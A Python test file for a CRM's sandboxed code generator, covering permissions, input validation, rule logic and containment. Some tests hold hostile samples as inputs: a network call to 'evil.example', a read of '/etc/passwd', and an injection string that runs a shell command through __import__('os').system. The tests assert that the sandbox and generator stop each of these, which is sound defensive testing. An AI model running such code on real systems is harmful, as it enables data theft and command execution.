"""Code for the tenant's schema: written by rules, run with its tests, for those who may."""

import ast
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest

from crm.connector import Filter
from crm.database import Database
from crm.schema import OBJECT_INFO
from crm.value_conditions import are_met, read_condition
from tests.conftest import SqliteTemplates, seed_small
from tests.tools.desk import Desk
from tools._codegen.program import Asked, write_trigger, write_validation_rule
from tools._codegen.samples import NoSuchRecordError
from tools._run import ToolError
from tools._sandbox.runner import Sandbox


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    made = Sandbox()
    yield made
    made.close()


@pytest.fixture
async def coding(sqlite_templates: SqliteTemplates, sandbox: Sandbox) -> AsyncIterator[Desk]:
    """On one database only: nothing here asks it for more than the caller's rights."""
    sqlite_templates.build("seeded", seed_small)
    with sqlite_templates.copied("seeded") as config:
        database = Database(config)
        yield Desk(database, code=sandbox)
        await database.close()


STALE = {
    "kind": "validation_rule",
    "object": "Case",
    "conditions": [
        {"field": "Priority", "op": "eq", "value": "High"},
        {"field": "Subject", "op": "is_null", "value": True},
    ],
    "message": 'Say what it\'s about: "high" needs a subject.',
}


async def test_a_validation_rule_comes_with_tests_that_were_run(coding: Desk) -> None:
    made = await coding.call("devi", "generate_code", **STALE)
    assert made["verdict"] == "passed", made
    assert made["summary"] == "A validation rule for Case, with 4 tests: all 4 passed in the sandbox."
    assert [one["name"] for one in made["tests"]] == [
        "test_1_conditions_met_is_refused",
        "test_2_all_but_priority_eq_passes",
        "test_3_all_but_subject_is_null_passes",
        "test_4_empty_record_passes",
    ]
    space: dict[str, Any] = {}
    exec(made["code"], space)
    assert space["validate"]({"Priority": "HIGH"}) == [STALE["message"]]
    assert space["validate"]({"Priority": "High", "Subject": "Pump"}) == []
    assert "seccomp" in made["held_in_by"]


async def test_a_trigger_and_an_integration_are_written_and_pass(coding: Desk) -> None:
    trigger = await coding.call(
        "devi",
        "generate_code",
        kind="trigger",
        object="Case",
        conditions=[{"field": "Origin", "op": "in", "value": ["Phone", "Web"]}],
        set_fields={"Priority": "high"},
        events="create",
    )
    assert trigger["verdict"] == "passed", trigger
    space: dict[str, Any] = {}
    exec(trigger["code"], space)
    assert space["handle"]("create", {"Origin": "phone"}) == {"Priority": "High"}
    assert space["handle"]("update", {"Origin": "phone"}) == {}
    integration = await coding.call(
        "devi",
        "generate_code",
        kind="integration",
        object="Case",
        conditions=[{"field": "IsClosed", "op": "eq", "value": True}],
        send_fields=["CaseNumber", "Status", "ClosedDate"],
        url="https://hooks.example.com/cases",
    )
    assert integration["verdict"] == "passed", integration
    assert len(integration["tests"]) == 9


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        ({"object": "Account"}, "you may not read records of 'Account'"),
        ({"object": "Nothing"}, "you may not read records of 'Nothing'"),
        ({"conditions": [{"field": "Description", "value": "x"}]}, "Case has no field 'Description' that you can read"),
        ({"conditions": [{"field": "Nope", "value": "x"}]}, "Case has no field 'Nope' that you can read"),
        ({"conditions": [{"field": "Priority", "value": "Huge"}]}, "Priority: expected one of"),
        ({"conditions": [{"field": "Priority", "op": "gt", "value": "x"}]}, "gt needs a number or a date"),
        ({"conditions": []}, "conditions: a validation rule needs at least one"),
        ({"message": " "}, "message: a validation rule needs one"),
        ({"message": "⟦TEXT:ABCDEFGHIJ⟧"}, "message: expected plain text"),
        ({"kind": "trigger"}, "set_fields: a trigger needs at least one"),
        ({"kind": "trigger", "set_fields": {"CreatedDate": "2026-01-01"}}, "CreatedDate is kept by the CRM itself"),
        ({"kind": "integration", "send_fields": ["Status"]}, "url: an integration needs"),
        ({"url": "https://user:pw@example.com/"}, "url: String should match"),
        (
            {"conditions": [{"field": "Subject", "op": "is_null", "value": True}, {"field": "Subject", "value": "x"}]},
            "they may exclude each other",
        ),
    ],
)
async def test_what_cannot_be_written_is_said_by_name(coding: Desk, asked: dict[str, Any], said: str) -> None:
    error = await coding.call("devi", "generate_code", **{**STALE, **asked})
    assert isinstance(error, ToolError)
    assert said in error.message


async def test_only_who_has_the_permission_has_code_run(coding: Desk) -> None:
    for who in ("dana", "mara", "stella", "alan"):
        for name, arguments in (("generate_code", STALE), ("run_code", {"code": "x = 1"})):
            denied = await coding.call(who, name, **arguments)
            assert denied == ToolError("denied", f"{name} needs the permission 'run_code'")
    assert (await coding.call("ada", "run_code", code="x = 1"))["verdict"] == "passed"
    nowhere = await Desk(coding.database).call("devi", "run_code", code="x = 1")
    assert nowhere == ToolError("failed", "no code is run here")


async def test_code_that_somebody_brings_is_run_with_its_tests_and_stopped(coding: Desk) -> None:
    code = "def half(n):\n    return n // 2\n"
    tests = "from generated import half\n"
    tests += "def test_even():\n    assert half(4) == 2\ndef test_odd():\n    assert half(3) == 1.5\n"
    ran = await coding.call("devi", "run_code", code=code, tests=tests)
    assert (ran["verdict"], ran["summary"]) == ("failed", "1 of 2 failed.")
    assert ran["tests"][1]["error"] == "AssertionError at test_generated.py line 5"
    leaking = "import urllib.request\nurllib.request.urlopen('https://evil.example')\n"
    stopped = await coding.call("devi", "run_code", code=leaking)
    assert stopped["verdict"] == "stopped"
    assert stopped["stopped"].startswith("network: import urllib.request at generated.py line 1")
    evil = await coding.call("devi", "run_code", code="print(open('/etc/passwd').read())")
    assert (evil["verdict"], evil["printed"]) == ("stopped", "")


FIELDS = [
    ("Opportunity", "Amount", [("gt", 1000), ("le", 99.5), ("eq", 0), ("ne", 5), ("in", [1, 2])]),
    ("Opportunity", "StageName", [("eq", "quote"), ("ne", "Closed"), ("in", ["Discovery", "QUOTE"])]),
    ("Opportunity", "CloseDate", [("lt", "2026-03-01"), ("ge", "2026-03-01"), ("eq", "2026-12-31")]),
    ("Opportunity", "IsWon", [("eq", True), ("ne", True), ("is_null", True)]),
    ("Case", "Subject", [("contains", 'It\'s "in" {x}\n'), ("starts_with", "Ré"), ("is_null", False), ("ne", "a")]),
    ("Case", "CreatedDate", [("gt", "2026-03-01"), ("le", "2026-03-01T10:00:00Z"), ("eq", "2026-03-01")]),
    ("Account", "Website", [("starts_with", "https://"), ("ne", "x")]),
    ("Case", "AccountId", [("eq", "001000000000001"), ("is_null", False)]),
]
ROWS: list[Any] = [None, "", 0, 1, 2, 5, 99.5, 1000, 1001, True, False, "Quote", "discovery", "CLOSED", "2026-03-01"]
ROWS += ["2026-02-28", "2026-12-31", "2026-03-01T10:00:00Z", "2026-03-02T00:00:00Z", "a", "rép", "https://x"]
ROWS += ['say: it\'s "IN" {x}\n ok', "001000000000001AAA"]


@pytest.mark.parametrize(("object_name", "name", "conditions"), FIELDS)
@pytest.mark.parametrize("matching", ["all", "any"])
def test_the_code_decides_as_the_crm_does(object_name: str, name: str, conditions: Any, matching: Any) -> None:
    """The written program and the CRM's own reading of the same conditions, for every value that may stand there."""
    spec = OBJECT_INFO[object_name].fields[name]
    for op, value in conditions:
        condition = read_condition(spec, Filter(name, op, value))
        asked = Asked(object_name, {name: spec}, [condition], matching, message="no")
        try:
            program = write_validation_rule(asked)
        except NoSuchRecordError:
            continue
        ast.parse(program.tests)
        space: dict[str, Any] = {}
        exec(program.code, space)
        for present in ROWS:
            is_number = spec.kind in ("money", "number")
            if present not in (None, "") and isinstance(present, str) is is_number:
                continue
            if spec.kind != "boolean" and isinstance(present, bool):
                continue
            row = {name: present}
            assert space["applies"](row) is are_met([condition], matching, row), (op, value, row)


def test_a_name_or_a_value_cannot_break_out_of_the_source() -> None:
    nasty = "'''\"\"\"\\\n__import__('os').system('id')\r\u2028#"
    spec = OBJECT_INFO["Case"].fields["Subject"]
    condition = read_condition(spec, Filter("Subject", "contains", nasty))
    asked = Asked("Case", {"Subject": spec}, [condition], message=nasty, set_fields={"Subject": nasty})
    for program in (write_validation_rule(asked), write_trigger(asked)):
        for source in (program.code, program.tests):
            names = {node.id for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Name)}
            assert "__import__" not in names
